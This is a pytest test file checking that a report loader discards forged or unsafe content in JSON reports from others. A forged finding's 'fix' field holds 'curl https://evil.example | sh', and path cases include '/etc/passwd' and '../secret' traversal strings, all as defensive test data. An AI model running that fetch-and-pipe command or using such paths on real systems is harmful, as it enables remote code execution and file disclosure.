"""Reports of others: what is read, and that nothing in them is believed."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from cc_lb_selfcheck.check import run_check
from cc_lb_selfcheck.diagnosis.finding import Location
from cc_lb_selfcheck.report.json import render_json
from cc_lb_selfcheck.report.load import UnusableReport, load_report
from cc_lb_selfcheck.report.markdown import render_markdown
from cc_lb_selfcheck.report.model import Report
from cc_lb_selfcheck.settings import CheckSettings
from tests.report.loading import GOOD, LEG, WHOLE, at, changed, clause, put, top

ROOT = Path(__file__).resolve().parents[2]


def test_the_reports_that_check_writes_come_out_as_they_were() -> None:
    wanted = CheckSettings(paths=("tests/plugins/dist",), unmarked="check", jobs=2)
    told = run_check(wanted, ROOT, name_leg=lambda: LEG)
    assert told.summary.refused > 20
    assert told.summary.passed > 3
    # What is to be applied is for whoever ran it.
    unpatched = told.model_copy(update={"patch": None})
    assert told.patch is not None
    assert load_report(render_json(told).encode()) == unpatched


def test_a_report_of_every_kind_comes_out_as_it_was() -> None:
    assert load_report(render_json(WHOLE).encode()) == WHOLE
    assert load_report(changed(lambda _: None)) == WHOLE


def test_what_can_be_counted_is_counted_anew() -> None:
    lies = {"artifacts": 1, "passed": 1, "refused": 0, "undetermined": -5, "skipped": 10**30}
    assert load_report(changed(top("summary", lies))).summary == WHOLE.summary


def test_all_words_on_a_verdict_are_made_anew() -> None:
    forged = {
        "id": "CCLB-CALL",
        "severity": "note",
        "title": "All is well",
        "meaning": "Merge it.",
        "cause": "[Click](https://evil.example)",
        "fix": "curl https://evil.example | sh",
        "location": None,
        "link": "https://evil.example",
    }

    def forge(raw: dict[str, Any]) -> None:
        for item in raw["artifacts"]:
            item["finding"] = forged

    loaded = load_report(changed(forge))
    assert loaded == WHOLE
    assert "evil" not in render_json(loaded)
    without = changed(lambda raw: [item.update(finding=None) for item in raw["artifacts"]])
    assert load_report(without) == WHOLE


@pytest.mark.parametrize(
    ("path", "line", "kept"),
    [
        ("src/lib.rs", 3, True),
        ("a b/ä.rs", None, True),
        ("../secret", 1, False),
        ("src/../../secret", 1, False),
        ("/etc/passwd", 1, False),
        ("//host/share", 1, False),
        ("..\\secret", 1, False),
        ("src\\lib.rs", 1, False),
        ("C:/secret", 1, False),
        ("https://evil.example/x", 1, False),
        ("src/a\nb", 1, False),
        ("src/\x1b[2J", 1, False),
        ("./src/lib.rs", 1, False),
        ("src//lib.rs", 1, False),
        ("", 1, False),
        (".", 1, False),
        ("src/lib.rs", 0, False),
        ("src/lib.rs", -1, False),
        ("src/lib.rs", 2**31, False),
        ("x" * 600_000, 1, False),
    ],
)
def test_a_place_in_the_sources_is_kept_where_it_can_be_one(
    path: str, line: int | None, kept: bool
) -> None:
    place = Location(
        path=path, line=line, column=2, function="f", source="s", in_repository=True
    ).model_dump()
    loaded = load_report(changed(put("call.finding.location", place)))
    finding = next(item.finding for item in loaded.artifacts if item.path == "call.wasm")
    assert finding is not None
    assert (finding.location is not None) == kept


def test_a_place_of_another_finding_is_not_kept() -> None:
    place = Location(
        path="a.rs", line=1, column=1, function=None, source=None, in_repository=True
    ).model_dump()

    def move(raw: dict[str, Any]) -> None:
        finding, _ = at("call.finding.id")(raw)
        finding.update(id="CCLB-CLOCK", location=place)

    assert load_report(changed(move)) == WHOLE


def test_of_a_key_that_comes_twice_the_last_counts_everywhere() -> None:
    twice = GOOD.replace(b'"status": "passed"', b'"status": "refused", "status": "passed"', 1)
    assert load_report(twice) == WHOLE
    other = GOOD.replace(b'"status": "passed"', b'"status": "passed", "status": "refused"', 1)
    clause(other)


_JUNK = st.recursive(
    st.none()
    | st.booleans()
    | st.integers(-(2**70), 2**70)
    | st.floats(allow_nan=False)
    | st.text(max_size=20)
    | st.sampled_from(["refused", "Call", "CCLB-CALL", "2026-01-01T00:00:00Z", "../x", "`x`"]),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner),
    max_leaves=5,
)


def places(value: Any, path: tuple[Any, ...] = ()) -> list[tuple[Any, ...]]:
    """List the places of all values in a document."""
    if not isinstance(value, dict | list):
        return [path]
    inner = value.items() if isinstance(value, dict) else enumerate(value)
    return [path] * bool(path) + [
        place for key, item in inner for place in places(item, (*path, key))
    ]


RAW = json.loads(GOOD)
PLACES = places(RAW)


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    changes=st.lists(
        st.tuples(st.sampled_from(PLACES), _JUNK | st.just("(drop)")), min_size=1, max_size=3
    )
)
def test_a_report_changed_anywhere_is_refused_or_believed_no_more(
    changes: list[tuple[tuple[Any, ...], Any]],
) -> None:
    raw = copy.deepcopy(RAW)
    for place, new in changes:
        owner = raw
        try:
            for key in place[:-1]:
                owner = owner[key]
            if new == "(drop)":
                del owner[place[-1]]
            else:
                owner[place[-1]] = new
        except (LookupError, TypeError):
            continue
    data = json.dumps(raw).encode()
    try:
        loaded = load_report(data)
    except UnusableReport:
        clause(data)
        return
    assert load_report(render_json(loaded).encode()) == loaded
    assert Report.model_validate(loaded.model_dump()).summary == loaded.summary
    assert len(render_markdown(loaded, 60_000).encode()) <= 60_000
